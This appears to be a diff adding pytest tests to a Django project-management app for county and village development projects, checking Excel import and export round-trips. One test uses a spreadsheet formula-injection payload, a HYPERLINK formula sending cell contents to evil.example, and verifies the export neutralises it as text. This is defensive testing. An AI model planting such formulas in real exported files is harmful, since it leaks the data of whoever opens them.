@@ -327,3 +327,76 @@ def test_p14_import_pages_for_the_county_and_refused_to_a_village(shipped_data, 
     client.force_login(make_user(Role.VILLAGE, VILLAGE, username="cun2"))
     assert client.get("/projects/import/").status_code == 403
     assert client.get(location).status_code == 404
+
+
+def test_p14_several_villages_and_an_emergency_project_read_back_the_same(
+    shipped_data, clock_at, client: Client
+):
+    # given a county project over two villages with their natural villages, and an emergency one, imported
+    user = _county_user()
+    rows = [
+        _row(项目名称="两村连通道路", 项目层级="县级部门", 行政村="西山村委会、团山村委会",
+             自然村="西山村委会/大村组、团山村委会/新村组、团山村委会/老村组", 实施单位="县交通运输局"),
+        _row(项目名称="水毁道路抢修", 项目层级="县级部门", 是否应急="是", 应急类型="灾情",
+             应急理由="7月暴雨冲毁道路，须抢修", 状态="开工"),
+    ]  # fmt: skip
+    batch = imports.library_import_stage(actor=user, file_name="两村.xlsx", data=_book(rows))
+    assert batch.status == "validated", batch.errors
+    imports.library_import_confirm(actor=user, batch=batch)
+    both = Project.objects.get(name="两村连通道路")
+    places = {
+        (p.village.code, p.natural_village.name)
+        for p in both.places.select_related("village", "natural_village")
+    }
+    assert places == {
+        (VILLAGE, "大村组"),
+        (SAME_TOWNSHIP_VILLAGE, "新村组"),
+        (SAME_TOWNSHIP_VILLAGE, "老村组"),
+    }
+    assert both.level == "county" and both.division.code == COUNTY
+    emergency = Project.objects.get(name="水毁道路抢修")
+    assert (emergency.emergency, emergency.emergency_kind, emergency.status) == (True, "disaster", "started")
+    # when exported, the cells read as they were written
+    client.force_login(user)
+    exported = {r["项目名称"]: r for r in _by_header(_sheet(client.get("/projects/export.xlsx").content))}
+    assert exported["两村连通道路"]["行政村"] == "西山村委会、团山村委会"
+    assert exported["两村连通道路"]["自然村"] == "西山村委会/大村组、团山村委会/新村组、团山村委会/老村组"
+    assert (exported["水毁道路抢修"]["是否应急"], exported["水毁道路抢修"]["应急类型"]) == ("是", "灾情")
+    # and the export imported again changes nothing
+    content = client.get("/projects/export.xlsx").content
+    again = imports.library_import_stage(actor=user, file_name="再导入.xlsx", data=content)
+    assert (
+        again.status == "validated" and again.summary["to_add"] == 0 and again.summary["unchanged_rows"] == 2
+    )
+
+
+def test_p14_a_name_that_looks_like_a_formula_goes_out_as_text_and_comes_back_unchanged(
+    shipped_data, clock_at, client: Client
+):
+    import re
+    import zipfile
+
+    payload = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
+    user = _county_user()
+    batch = imports.library_import_stage(actor=user, file_name="f.xlsx", data=_book([_row(项目名称=payload)]))
+    imports.library_import_confirm(actor=user, batch=batch)
+    assert Project.objects.get().name == payload  # the quote our workbook put in front is taken off
+    client.force_login(user)
+    content = client.get("/projects/export.xlsx").content
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
+        assert not any(re.search(r"<f[ >]", archive.read(n).decode()) for n in sheets)
+    (row,) = _by_header(_sheet(content))
+    assert row["项目名称"] == "'" + payload
+    # and the exported file is the same project again
+    assert (
+        imports.library_import_stage(actor=user, file_name="g.xlsx", data=content).summary["unchanged_rows"]
+        == 1
+    )
+
+
+def test_p14_a_household_project_cannot_come_in_from_a_workbook(shipped_data, clock_at):
+    user = _county_user()
+    batch = imports.library_import_stage(actor=user, file_name="h.xlsx", data=_book([_row(到户项目="是")]))
+    errors = _errors(batch)
+    assert "到户项目须列出受益农户" in errors[(3, "到户项目")] and "在系统中申报" in errors[(3, "到户项目")]
